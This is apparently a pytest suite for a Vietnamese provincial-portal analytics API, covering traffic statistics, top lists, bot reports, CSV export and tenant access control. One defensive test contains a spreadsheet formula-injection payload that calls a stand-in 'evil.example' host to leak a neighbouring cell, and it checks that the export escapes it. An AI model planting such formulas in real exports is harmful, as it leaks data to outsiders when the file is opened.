"""Reports: figures from known traffic, bounded ranges, CSV, and tenancy on every endpoint."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from analytics_helpers import beacon
from factories import assert_problem, make_user

# 2026-11-20 10:00 in Ho Chi Minh City (UTC+7)
T0 = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"
)
PER_PORTAL = [
    "/v1/analytics/portals/{p}/stats",
    "/v1/analytics/portals/{p}/top?dimension=page",
    "/v1/analytics/portals/{p}/realtime",
    "/v1/analytics/portals/{p}/bots",
]


async def traffic(a):
    """Phu Yen: visitor A reads 3 pages (one reload), visitor B bounces, B returns an hour
    later and sends an event; one crawler. Da Nang: one page view."""
    a.clock.at = T0
    await a.send(beacon("/", referrer="https://www.google.com/search"), ip="1.1.1.1")
    a.clock.at = T0 + timedelta(minutes=1)
    await a.send(beacon("/tin-tuc/a", article="a1", category="tin-tuc"), ip="1.1.1.1")
    a.clock.at = T0 + timedelta(minutes=2)
    await a.send(beacon("/tin-tuc/a", article="a1", category="tin-tuc"), ip="1.1.1.1")  # reload
    a.clock.at = T0 + timedelta(minutes=3)
    await a.send(beacon("/tin-tuc/b", article="b2", category="tin-tuc"), ip="1.1.1.1")
    await a.send(
        beacon("/"),
        ip="2.2.2.2",
        ua=IPHONE,
    )
    a.clock.at = T0 + timedelta(hours=1)
    await a.send(
        beacon("/van-ban"),
        ip="2.2.2.2",
        ua=IPHONE,
    )
    await a.send(
        beacon("/van-ban", type="event", name="download"),
        ip="2.2.2.2",
        ua=IPHONE,
    )
    await a.send(beacon("/"), ua="Googlebot/2.1 (+http://www.google.com/bot.html)")
    await a.send(beacon("/", portal="da-nang"), ip="3.3.3.3")
    await a.drain()


@pytest.fixture
async def people(analytics, content_app, db):
    return {
        "editor": await make_user(content_app, db, roles={"phu-yen": "contributor"}),
        "other": await make_user(content_app, db, roles={"da-nang": "admin"}),
        "central": await make_user(content_app, db, roles={"trung-uong": "editor"}),
        "super": await make_user(content_app, db, superadmin=True),
    }


async def make_central(db):
    from sqlalchemy import update

    from services.content.models import Portal

    async with db.transaction() as session:
        await session.execute(
            update(Portal).where(Portal.id == "trung-uong").values(kind="central")
        )


class TestStats:
    async def test_figures_by_day(self, analytics, people):
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/stats?from=2026-11-20&to=2026-11-20",
            headers=people["editor"].headers,
        )
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["pageviews"] == 5  # 3 for A (the reload is not one), 2 for B
        assert body["reloads"] == 1
        assert body["visits"] == 3  # A once, B twice (an hour apart)
        assert body["visitors"] == 2
        assert body["visitors_method"] == "sum of daily unique visitors"
        assert body["bounces"] == 1  # B's first visit; the second has an event
        assert body["bounce_rate"] == round(1 / 3, 4)
        assert body["events"] == 1
        assert body["timeseries"] == [
            {
                "start": "2026-11-20",
                "pageviews": 5,
                "visitors": 2,
                "visits": 3,
                "bounce_rate": round(1 / 3, 4),
            }
        ]

    async def test_hourly_series_is_local_and_zero_filled(self, analytics, people):
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/stats?from=2026-11-20&to=2026-11-20&interval=hour",
            headers=people["editor"].headers,
        )
        series = r.json()["timeseries"]
        assert len(series) == 24
        assert series[0]["start"] == "2026-11-20T00:00:00+07:00"
        assert series[10] == {
            "start": "2026-11-20T10:00:00+07:00",
            "pageviews": 4,
            "visitors": 2,
            "visits": 2,
            "bounce_rate": 0.5,
        }
        assert series[11]["pageviews"] == 1
        assert series[11]["visits"] == 1
        assert sum(p["pageviews"] for p in series) == 5

    async def test_monthly_series(self, analytics, people):
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/stats?from=2026-09-01&to=2026-11-30&interval=month",
            headers=people["editor"].headers,
        )
        assert [p["start"] for p in r.json()["timeseries"]] == [
            "2026-09-01",
            "2026-10-01",
            "2026-11-01",
        ]
        assert r.json()["timeseries"][2]["pageviews"] == 5

    async def test_default_range_ends_today(self, analytics, people):
        await traffic(analytics)
        body = (
            await analytics.get(
                "/v1/analytics/portals/phu-yen/stats", headers=people["editor"].headers
            )
        ).json()
        assert (body["from"], body["to"]) == ("2026-10-22", "2026-11-20")
        assert body["pageviews"] == 5

    @pytest.mark.parametrize(
        "query",
        [
            "from=2026-11-20&to=2026-11-01",
            "interval=hour&from=2026-01-01&to=2026-03-01",
            "interval=day&from=2020-01-01&to=2026-01-01",
            "interval=month&from=2010-01-01&to=2026-01-01",
            "interval=week",
            "from=20-11-2026",
        ],
    )
    async def test_bad_ranges_are_422(self, analytics, people, query):
        r = await analytics.get(
            f"/v1/analytics/portals/phu-yen/stats?{query}", headers=people["editor"].headers
        )
        assert_problem(r, 422)


class TestTop:
    @pytest.mark.parametrize(
        ("dimension", "expected"),
        [
            (
                "page",
                [
                    {"key": "/", "value": 2},
                    {"key": "/tin-tuc/a", "value": 1},
                    {"key": "/tin-tuc/b", "value": 1},
                    {"key": "/van-ban", "value": 1},
                ],
            ),
            ("article", [{"key": "a1", "value": 1}, {"key": "b2", "value": 1}]),
            ("category", [{"key": "tin-tuc", "value": 2}]),
            ("referrer", [{"key": "(direct)", "value": 2}, {"key": "google.com", "value": 1}]),
            ("device", [{"key": "mobile", "value": 2}, {"key": "desktop", "value": 1}]),
        ],
    )
    async def test_top_lists(self, analytics, people, dimension, expected):
        await traffic(analytics)
        r = await analytics.get(
            f"/v1/analytics/portals/phu-yen/top?dimension={dimension}&from=2026-11-20&to=2026-11-20",
            headers=people["editor"].headers,
        )
        assert r.status_code == 200, r.text
        assert r.json()["items"] == expected

    async def test_unknown_dimension_and_limit(self, analytics, people):
        h = people["editor"].headers
        assert_problem(
            await analytics.get("/v1/analytics/portals/phu-yen/top?dimension=ip", headers=h), 422
        )
        assert_problem(
            await analytics.get(
                "/v1/analytics/portals/phu-yen/top?dimension=page&limit=0", headers=h
            ),
            422,
        )
        assert_problem(await analytics.get("/v1/analytics/portals/phu-yen/top", headers=h), 422)


class TestRealtimeAndCounter:
    async def test_realtime_counts_the_last_five_minutes(self, analytics, people):
        await traffic(analytics)  # clock at T0+1h: B was just there
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/realtime", headers=people["editor"].headers
        )
        assert r.json()["visitors"] == 1
        analytics.clock.at = T0 + timedelta(hours=1, minutes=6)
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/realtime", headers=people["editor"].headers
        )
        assert r.json()["visitors"] == 0

    async def test_counter_is_public_and_cached(self, analytics):
        await traffic(analytics)
        r = await analytics.get("/v1/analytics/portals/phu-yen/counter")
        assert r.status_code == 200
        assert r.json() == {"portal": "phu-yen", "total_visits": 3, "online": 1}
        assert r.headers["cache-control"].startswith("public, max-age=30")
        again = await analytics.get(
            "/v1/analytics/portals/phu-yen/counter", headers={"If-None-Match": r.headers["etag"]}
        )
        assert again.status_code == 304

    async def test_counter_of_unknown_portal_is_404(self, analytics):
        assert_problem(await analytics.get("/v1/analytics/portals/khong-co/counter"), 404)


class TestBotsReport:
    async def test_counts_per_reason_and_day(self, analytics, people):
        await traffic(analytics)
        await analytics.send(beacon("/"), ua="curl/8.4.0")
        await analytics.send(beacon("/"), headers={"Sec-Purpose": "prefetch"})
        await analytics.drain()
        r = await analytics.get(
            "/v1/analytics/portals/phu-yen/bots?from=2026-11-20&to=2026-11-20",
            headers=people["editor"].headers,
        )
        body = r.json()
        assert body["by_reason"] == {"crawler": 2, "prefetch": 1}
        assert body["total"] == 3
        assert {"day": "2026-11-20", "reason": "crawler", "count": 2} in body["days"]


class TestSummary:
    async def test_central_members_see_every_portal(self, analytics, people, db):
        await make_central(db)
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/summary?from=2026-11-20&to=2026-11-20", headers=people["central"].headers
        )
        assert r.status_code == 200, r.text
        items = {i["portal"]: i for i in r.json()["items"]}
        assert items["phu-yen"]["pageviews"] == 5
        assert items["da-nang"]["pageviews"] == 1
        assert items["trung-uong"]["pageviews"] == 0

    async def test_csv(self, analytics, people, db):
        await make_central(db)
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/summary?from=2026-11-20&to=2026-11-20&format=csv",
            headers=people["super"].headers,
        )
        assert r.status_code == 200
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert "attachment" in r.headers["content-disposition"]
        text = r.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows[0] == {
            "portal": "phu-yen",
            "name": "BHXH phu-yen",
            "pageviews": "5",
            "visitors": "2",
            "visits": "3",
            "bounce_rate": "0.3333",
        }

    async def test_a_formula_in_a_portal_name_is_text_in_the_csv(self, analytics, people, client):
        """The attack: a province admin renames their portal to a formula that, opened in
        Excel by central staff, would send the neighbouring cell to another site."""
        attack = '=HYPERLINK("https://evil.example/?leak="&B3,"Hà Nội")'
        r = await client.patch(
            "/v1/portals/da-nang", json={"name": attack}, headers=people["other"].headers
        )
        assert r.status_code == 200, r.text
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/summary?from=2026-11-20&to=2026-11-20&format=csv",
            headers=people["super"].headers,
        )
        assert r.status_code == 200, r.text
        text = r.content.decode("utf-8-sig")
        rows = {row["portal"]: row for row in csv.DictReader(io.StringIO(text))}
        assert rows["da-nang"]["name"] == "'" + attack
        assert rows["da-nang"]["pageviews"] == "1"  # numbers stay numbers
        assert ",=HYPERLINK" not in text

    async def test_provincial_members_are_403(self, analytics, people, db):
        await make_central(db)
        r = await analytics.get("/v1/analytics/summary", headers=people["editor"].headers)
        assert_problem(r, 403)

    async def test_range_limit(self, analytics, people):
        r = await analytics.get(
            "/v1/analytics/summary?from=2020-01-01&to=2026-01-01", headers=people["super"].headers
        )
        assert_problem(r, 422)


class TestTenancy:
    @pytest.mark.parametrize("path", PER_PORTAL)
    async def test_anonymous_is_401(self, analytics, path):
        assert_problem(await analytics.get(path.format(p="phu-yen")), 401)

    @pytest.mark.parametrize("path", PER_PORTAL)
    async def test_member_of_another_portal_is_403(self, analytics, people, path):
        await traffic(analytics)
        r = await analytics.get(path.format(p="phu-yen"), headers=people["other"].headers)
        problem = assert_problem(r, 403)
        assert problem["type"].endswith("/forbidden")
        assert "pageviews" not in r.text

    @pytest.mark.parametrize("path", PER_PORTAL)
    async def test_central_member_is_403_on_a_province(self, analytics, people, db, path):
        await make_central(db)
        r = await analytics.get(path.format(p="phu-yen"), headers=people["central"].headers)
        assert_problem(r, 403)

    @pytest.mark.parametrize("path", PER_PORTAL)
    async def test_member_and_superadmin_read(self, analytics, people, path):
        for who in ("editor", "super"):
            r = await analytics.get(path.format(p="phu-yen"), headers=people[who].headers)
            assert r.status_code == 200, (who, r.text)

    @pytest.mark.parametrize("path", PER_PORTAL)
    async def test_unknown_portal_is_404(self, analytics, people, path):
        assert_problem(
            await analytics.get(path.format(p="khong-co"), headers=people["super"].headers), 404
        )

    async def test_other_portals_figures_do_not_leak(self, analytics, people):
        await traffic(analytics)
        r = await analytics.get(
            "/v1/analytics/portals/da-nang/stats?from=2026-11-20&to=2026-11-20",
            headers=people["other"].headers,
        )
        assert r.json()["pageviews"] == 1
        r = await analytics.get(
            "/v1/analytics/portals/da-nang/top?dimension=page&from=2026-11-20&to=2026-11-20",
            headers=people["other"].headers,
        )
        assert r.json()["items"] == [{"key": "/", "value": 1}]

    async def test_every_route_is_in_this_matrix(self, analytics):
        routes = {p for p in analytics.app.openapi()["paths"] if p.startswith("/v1/analytics")}
        covered = {p.split("?")[0].replace("{p}", "{portal}") for p in PER_PORTAL}
        public = {
            "/v1/analytics/events",
            "/v1/analytics/script.js",
            "/v1/analytics/portals/{portal}/counter",
        }
        assert routes == covered | public | {"/v1/analytics/summary"}
